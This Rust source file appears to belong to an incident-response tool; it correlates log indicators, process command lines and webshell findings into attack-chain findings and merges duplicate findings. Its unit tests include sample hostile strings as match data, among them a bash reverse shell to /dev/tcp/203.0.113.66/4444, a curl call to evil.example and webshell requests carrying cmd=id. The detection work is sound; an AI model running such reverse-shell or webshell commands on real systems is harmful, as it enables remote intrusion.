//! Cross-source correlation: facts that only mean something together. An attacker host in
//! the logs that is also in a running process's command line; a dropped webshell that the
//! logs show being requested; and the attack chain (way in -> execution -> foothold/impact)
//! in one finding, so the analyst reads the incident first and the details after; and
//! [`one_finding_per_fact`], which folds the proofs of one fact from several sources together.

use std::collections::{BTreeMap, BTreeSet};

use crate::logscan::ioc::IocKind;
use crate::model::{Finding, Locator, Severity, Timestamp};
use crate::report::BundleReport;

/// Proofs listed per side of a correlation (the JSON of the underlying findings has all).
const PROOFS_PER_SIDE: usize = 3;

/// Correlation findings for one bundle, from its sections and the findings made so far.
pub fn correlate(report: &BundleReport, findings: &[Finding]) -> Vec<Finding> {
    let mut out = callbacks_in_processes(report, findings);
    out.extend(webshells_requested(report, findings));
    out.extend(attack_chain(findings));
    out
}

/// Log IOCs (hosts) that also appear in a process command line or in a process finding
/// (whose summary carries callbacks decoded from base64).
fn callbacks_in_processes(report: &BundleReport, findings: &[Finding]) -> Vec<Finding> {
    let own: BTreeSet<&str> = report
        .containers
        .iter()
        .flat_map(|c| {
            let n = &c.network;
            [n.ip_address.as_deref(), n.gateway.as_deref()]
                .into_iter()
                .chain(n.networks.iter().flat_map(|a| [a.ip_address.as_deref(), a.gateway.as_deref()]))
        })
        .flatten()
        .collect();
    let mut out = vec![];
    for ioc in &report.logs.iocs {
        if !matches!(ioc.kind, IocKind::Ip | IocKind::Domain)
            || own.contains(ioc.value.as_str())
            || is_local(&ioc.value)
        {
            continue;
        }
        let mut proofs: Vec<Locator> = vec![];
        let mut seen_in: Vec<String> = vec![];
        for p in report.processes.iter().flat_map(|r| r.capture.processes.iter()) {
            if contains_host(&p.cmd, &ioc.value) {
                proofs.push(p.locator.clone());
                seen_in.push(format!("pid {}", p.pid));
            }
        }
        for f in
            findings.iter().filter(|f| f.rule.starts_with("proc.") && contains_host(&f.summary, &ioc.value))
        {
            proofs.extend(f.evidence.iter().cloned());
            seen_in.push(f.rule.clone());
        }
        if proofs.is_empty() {
            continue;
        }
        proofs.sort();
        proofs.dedup();
        seen_in.sort();
        seen_in.dedup();
        let first = ioc.first_seen.map(|t| format!(", first at {t}")).unwrap_or_default();
        let mut evidence: Vec<Locator> = ioc.locators.clone();
        evidence.sort();
        evidence.dedup();
        evidence.truncate(PROOFS_PER_SIDE);
        evidence.extend(proofs.into_iter().take(PROOFS_PER_SIDE * 2));
        out.push(Finding {
            rule: "correlate.callback-in-process".into(),
            severity: Severity::Critical,
            category: "command-and-control".into(),
            title: format!("Attacker host {} in the logs and in the running processes", ioc.value),
            summary: format!(
                "{} appears in {} log record(s){first} and in the process capture ({}): the request that \
                 came in is the connection that went out; block it at the perimeter and hunt for it elsewhere.",
                ioc.value,
                ioc.count,
                seen_in.join(", ")
            ),
            attack: Some("T1071,T1190".into()),
            time: ioc.first_seen,
            evidence,
            subject: Some(ioc.value.clone()),
        });
    }
    out
}

/// Webshell files whose name shows up in log hits: the webshell was used, not only dropped.
fn webshells_requested(report: &BundleReport, findings: &[Finding]) -> Vec<Finding> {
    let mut out = vec![];
    for f in findings.iter().filter(|f| f.rule.starts_with("file.webshell")) {
        let Some(path) = &f.subject else { continue };
        let Some(name) = path.rsplit('/').next().filter(|n| n.len() >= 3) else { continue };
        let hits: Vec<_> =
            report.logs.log_hits.iter().filter(|h| contains_path_segment(&h.excerpt, name)).collect();
        if hits.is_empty() {
            continue;
        }
        let first: Option<Timestamp> = hits.iter().filter_map(|h| h.time).min();
        let mut evidence: Vec<Locator> = f.evidence.iter().take(PROOFS_PER_SIDE).cloned().collect();
        evidence.extend(hits.iter().take(PROOFS_PER_SIDE * 2).map(|h| h.locator.clone()));
        out.push(Finding {
            rule: "correlate.webshell-used".into(),
            severity: Severity::Critical,
            category: "persistence".into(),
            title: format!("Webshell {path} was requested"),
            summary: format!(
                "{path} (flagged as a webshell on disk) is named in {} log hit(s){}: it was used, not only \
                 dropped. Its requests show what the attacker ran through it.",
                hits.len(),
                first.map(|t| format!(", first at {t}")).unwrap_or_default()
            ),
            attack: Some("T1505.003".into()),
            time: first,
            evidence,
            subject: Some(path.clone()),
        });
    }
    out
}

/// The phases of the incident, each by its earliest high or critical finding.
fn attack_chain(findings: &[Finding]) -> Option<Finding> {
    const PHASES: &[(&str, &[&str])] = &[
        ("way in", &["initial-access"]),
        ("execution", &["execution"]),
        ("foothold", &["persistence", "privilege-escalation", "credential-access"]),
        ("command and control", &["command-and-control"]),
        ("impact", &["impact"]),
        ("cover-up", &["defense-evasion"]),
    ];
    let serious: Vec<&Finding> = findings.iter().filter(|f| f.severity >= Severity::High).collect();
    let mut steps = vec![];
    let mut evidence = vec![];
    for (phase, categories) in PHASES {
        let pick = serious.iter().filter(|f| categories.contains(&f.category.as_str())).min_by(|a, b| {
            let key = |f: &Finding| (clock(f).is_none(), clock(f), f.time.is_none(), f.time, f.rule.clone());
            key(a).cmp(&key(b))
        });
        if let Some(f) = pick {
            let when = match (clock(f), f.time) {
                (Some(t), _) => format!(" ({t})"),
                (None, Some(t)) => format!(" (file mtime {t})"),
                _ => String::new(),
            };
            steps.push(format!("{phase}: {}{when}", f.title));
            evidence.extend(f.evidence.first().cloned());
        }
    }
    // A chain needs a way in or execution, and something after it.
    if steps.len() < 2 || !(steps[0].starts_with("way in") || steps[0].starts_with("execution")) {
        return None;
    }
    Some(Finding {
        rule: "correlate.attack-chain".into(),
        severity: Severity::Critical,
        category: "incident".into(),
        title: "Attack chain reconstructed across the evidence".into(),
        summary: format!("{}.", steps.join(" -> ")),
        attack: None,
        time: serious.iter().filter_map(|f| clock(f)).min(),
        evidence,
        subject: None,
    })
}

/// A finding's time when it is a clock reading (a log record, a process start, a container
/// event). File mtimes are set by whoever wrote the file, attackers included: not a clock.
fn clock(f: &Finding) -> Option<Timestamp> {
    if f.rule.starts_with("file.") {
        None
    } else {
        f.time
    }
}

/// One finding per fact: findings with the same rule and subject (a file in the export and
/// in the committed layer; JNDI requests in the json-file log and in the access log inside
/// the image; the same process chain in two captures) become one finding with every proof,
/// the earliest time and the highest severity, saying where else it was seen. Findings
/// without a subject are only deduplicated. Input must be sorted (highest severity first).
pub fn one_finding_per_fact(sorted: Vec<Finding>) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::with_capacity(sorted.len());
    let mut index: BTreeMap<(String, String), usize> = BTreeMap::new();
    let mut also: Vec<Vec<String>> = Vec::new();
    for f in sorted {
        let key = f.subject.clone().map(|s| (f.rule.clone(), s));
        let Some(&i) = key.as_ref().and_then(|k| index.get(k)) else {
            if out.last() == Some(&f) {
                continue;
            }
            if let Some(k) = key {
                index.insert(k, out.len());
            }
            out.push(f);
            also.push(Vec::new());
            continue;
        };
        let kept = &mut out[i];
        kept.time = match (kept.time, f.time) {
            (Some(a), Some(b)) => Some(a.min(b)),
            (a, b) => a.or(b),
        };
        if let Some(src) = f.evidence.first().map(source_name) {
            if !also[i].contains(&src) && kept.evidence.first().map(source_name) != Some(src.clone()) {
                also[i].push(src);
            }
        }
        kept.evidence.extend(f.evidence);
        kept.evidence.sort();
        kept.evidence.dedup();
    }
    for (f, also) in out.iter_mut().zip(also) {
        if !also.is_empty() {
            f.summary.push_str(&format!(" Also seen in: {}.", also.join("; ")));
        }
    }
    out
}

/// The artifact (and first tar member) a locator points into, for "also seen in".
fn source_name(l: &Locator) -> String {
    match l.members.first() {
        Some(m) => format!("{} > {m}", l.artifact),
        None => l.artifact.clone(),
    }
}

fn is_local(host: &str) -> bool {
    host.starts_with("127.") || host == "::1" || host == "localhost" || host == "0.0.0.0"
}

/// `hay` names `host` as a whole token (so `10.0.0.1` does not match `10.0.0.12`; a
/// sentence's full stop after it is fine).
fn contains_host(hay: &str, host: &str) -> bool {
    let part = |c: char| c.is_ascii_alphanumeric() || c == '.' || c == '-';
    hay.match_indices(host).any(|(i, _)| {
        let rest = &hay[i + host.len()..];
        let before_ok = !hay[..i].chars().next_back().is_some_and(part);
        let after_ok = match rest.chars().next() {
            None => true,
            Some('.') => !rest[1..].starts_with(|c: char| c.is_ascii_alphanumeric()),
            Some(c) => !part(c),
        };
        before_ok && after_ok
    })
}

/// `hay` has `name` as a path segment (`/shell.php`, `/shell.php?`, `/shell.php HTTP`).
fn contains_path_segment(hay: &str, name: &str) -> bool {
    hay.match_indices(name).any(|(i, _)| {
        hay[..i].ends_with('/')
            && !hay[i + name.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn host_tokens() {
        assert!(contains_host("bash -i >& /dev/tcp/203.0.113.66/4444", "203.0.113.66"));
        assert!(contains_host("callback 203.0.113.66:4444.", "203.0.113.66"));
        assert!(!contains_host("10.0.0.12", "10.0.0.1"));
        assert!(!contains_host("x110.0.0.1", "10.0.0.1"));
        assert!(contains_host("curl http://evil.example/x", "evil.example"));
        assert!(!contains_host("notevil.example", "evil.example"));
    }

    #[test]
    fn path_segments() {
        assert!(contains_path_segment("GET /assets/health.jsp?cmd=id HTTP/1.1", "health.jsp"));
        assert!(contains_path_segment("POST /hackable/uploads/shell.php HTTP/1.1", "shell.php"));
        assert!(!contains_path_segment("GET /shell.php.bak", "shell.php"));
        assert!(!contains_path_segment("myshell.php", "shell.php"));
    }

    fn f(rule: &str, cat: &str, sev: Severity, secs: i64) -> Finding {
        Finding {
            rule: rule.into(),
            severity: sev,
            category: cat.into(),
            title: rule.into(),
            summary: String::new(),
            attack: None,
            time: Some(Timestamp::from_unix(secs, 0)),
            evidence: vec![Locator::artifact(rule)],
            subject: None,
        }
    }

    #[test]
    fn chain_in_phase_order_from_serious_findings_only() {
        let all = vec![
            f("file.webshell.php", "persistence", Severity::Critical, 30),
            f("log.jndi", "initial-access", Severity::Critical, 10),
            f("log.sqli", "initial-access", Severity::Low, 1),
            f("proc.revshell", "execution", Severity::Critical, 20),
        ];
        let c = attack_chain(&all).unwrap();
        assert!(c.summary.starts_with("way in: log.jndi"), "{}", c.summary);
        assert!(
            c.summary.contains("-> execution: proc.revshell")
                && c.summary.contains("-> foothold: file.webshell.php")
        );
        assert_eq!(c.time, Some(Timestamp::from_unix(10, 0)));
        assert!(attack_chain(&all[..1]).is_none(), "a foothold alone is not a chain");
    }

    fn titled(rule: &str, title: &str, sev: Severity, at: &str, secs: i64) -> Finding {
        Finding {
            rule: rule.into(),
            severity: sev,
            category: "persistence".into(),
            title: title.into(),
            summary: format!("seen in {at}"),
            attack: None,
            time: Some(Timestamp::from_unix(secs, 0)),
            evidence: vec![Locator::artifact(at).with_member("shell.php")],
            subject: Some(title.into()),
        }
    }

    #[test]
    fn same_fact_from_two_sources_is_one_finding_with_both_proofs() {
        let mut all = vec![
            titled("file.webshell.php", "PHP webshell: /x.php", Severity::Critical, "image.tar", 20),
            titled("file.webshell.php", "PHP webshell: /x.php", Severity::Critical, "export.tar", 10),
            titled("file.webshell.php", "PHP webshell: /y.php", Severity::Critical, "export.tar", 30),
            titled("file.webshell.php", "PHP webshell: /x.php", Severity::Critical, "export.tar", 10),
        ];
        all.sort_by(|a, b| a.evidence.cmp(&b.evidence));
        let merged = one_finding_per_fact(all);
        let mut unmerged = titled("proc.revshell", "Reverse shell", Severity::Critical, "top.txt", 5);
        unmerged.subject = None;
        let mut other = unmerged.clone();
        other.evidence = vec![Locator::artifact("top2.txt")];
        let merged_unsubjected = one_finding_per_fact(vec![unmerged.clone(), unmerged, other]);
        assert_eq!(merged_unsubjected.len(), 2, "no subject: only exact duplicates go");
        assert_eq!(merged.len(), 2);
        let x = merged.iter().find(|f| f.title.ends_with("/x.php")).unwrap();
        assert_eq!(x.evidence.len(), 2);
        assert_eq!(x.time, Some(Timestamp::from_unix(10, 0)));
        assert!(x.summary.ends_with("Also seen in: image.tar > shell.php."), "{}", x.summary);
    }
}
